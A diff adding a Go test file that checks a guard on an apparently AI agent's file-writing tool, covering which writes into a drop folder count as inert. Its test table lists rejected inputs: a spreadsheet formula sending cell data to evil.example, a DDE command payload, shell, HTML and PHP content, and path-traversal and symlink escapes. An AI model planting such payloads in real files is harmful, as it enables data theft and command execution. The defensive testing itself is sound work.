@@ -1,0 +1,98 @@
+package files
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"hob/tools"
+)
+
+// What a turn with outside text in it may write unasked: new plain documents in
+// the drop folder, and nothing else.
+func TestInertWrites(t *testing.T) {
+	b := newBench(t, func(o *Options) { o.Drop = "~/Documents/Hob"; o.Trusted = []string{"~/Documents/Hob/mine"} })
+	b.put("Documents/Hob/old.txt", "x")
+	b.put("Documents/Hob/mine/x.txt", "x")
+	b.put("Documents/Hob/repo/.git/HEAD", "x")
+	if err := os.Symlink(b.path("Documents"), b.path("Documents/Hob/out")); err != nil {
+		t.Skip(err)
+	}
+	const text = "Riga is in Latvia.\n"
+	tests := []struct {
+		name, path, content string
+		want                bool
+	}{
+		{"a note", "Hob/a.md", text, true},
+		{"in a new folder", "Hob/new/a.txt", text, true},
+		{"upper case", "Hob/A.TXT", text, true},
+		{"a table", "Hob/a.csv", "what,price\nmilk,-1.50\nbread,+2\n", true},
+		{"json", "Hob/a.json", `{"a": 1}`, true},
+		{"empty", "Hob/a.txt", "", true},
+		{"outside the drop folder", "a.md", text, false},
+		{"up and out", "Hob/../a.md", text, false},
+		{"through a link out", "Hob/out/a.md", text, false},
+		{"over a file", "Hob/old.txt", text, false},
+		{"a dot-file", "Hob/.a.txt", text, false},
+		{"in a dot-folder", "Hob/.vscode/a.json", text, false},
+		{"in a repository", "Hob/repo/a.md", text, false},
+		{"in a trusted folder", "Hob/mine/a.md", text, false},
+		{"a script", "Hob/a.sh", text, false},
+		{"a shortcut", "Hob/a.desktop", text, false},
+		{"a page", "Hob/a.html", text, false},
+		{"no ending", "Hob/Makefile", text, false},
+		{"two endings", "Hob/a.txt.bat", text, false},
+		{"instructions for agents", "Hob/AGENTS.md", text, false},
+		{"a package", "Hob/package.json", "{}", false},
+		{"a folder's name", "Hob/a.md/", text, false},
+		{"text that is a script", "Hob/a.txt", "#!/bin/sh\nid\n", false},
+		{"text that is a page", "Hob/a.txt", "<html><script>x</script>", false},
+		{"text that is PHP", "Hob/a.md", "\n<?php x", false},
+		{"text that is a picture", "Hob/a.txt", "\x89PNG\r\n\x1a\n", false},
+		{"a document that is text", "Hob/a.pdf", text, false},
+		{"an invitation", "Hob/a.ics", "BEGIN:VCALENDAR", false},
+		{"a formula", "Hob/a.csv", "a,b\n1,=WEBSERVICE(\"https://evil.example/\"&A1)\n", false},
+		{"a formula after a semicolon", "Hob/a.csv", "a;=1+1\n", false},
+		{"a formula with a sign", "Hob/a.csv", "a,-cmd|' /C calc'!A0\n", false},
+		{"a formula after an at", "Hob/a.tsv", "a\t@SUM(1)\n", false},
+		{"not allowed at all", "../outside/a.txt", text, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			args, err := json.Marshal(map[string]any{"path": tt.path, "content": tt.content})
+			if err != nil {
+				t.Fatal(err)
+			}
+			j := tools.JudgementOf(t.Context(), b.by["write_file"], args)
+			if j.Inert != tt.want || (j.Exact != "") != tt.want {
+				t.Errorf("%+v", j)
+			}
+		})
+	}
+	args := json.RawMessage(`{"path":"Hob/a.md","content":"x","append":true}`)
+	if tools.JudgementOf(t.Context(), b.by["write_file"], args).Inert {
+		t.Error("appending")
+	}
+}
+
+// Between the guard's look and the write something may come to the place.
+func TestAnInertWriteIsHeldToItsWord(t *testing.T) {
+	b := newBench(t, func(o *Options) { o.Drop = "~/Documents/Hob" })
+	b.put("Documents/Hob/keep.txt", "x")
+	args := json.RawMessage(`{"path":"Hob/a.md","content":"new"}`)
+	call := tools.Call{Args: args, Now: now, Exact: tools.JudgementOf(t.Context(), b.by["write_file"], args).Exact}
+	b.put("Documents/Hob/a.md", "older")
+	if _, err := b.by["write_file"].Call(t.Context(), call); tools.CodeOf(err) != tools.Conflict || b.get("Documents/Hob/a.md") != "older" {
+		t.Errorf("written over: %v", err)
+	}
+	if err := os.Remove(b.path("Documents/Hob/a.md")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(filepath.Join("..", "notes.txt"), b.path("Documents/Hob/a.md")); err != nil {
+		t.Skip(err)
+	}
+	if _, err := b.by["write_file"].Call(t.Context(), call); tools.CodeOf(err) != tools.Conflict || b.get("Documents/notes.txt") != "one\ntwo\nthree\n" {
+		t.Errorf("written through a link: %v", err)
+	}
+}
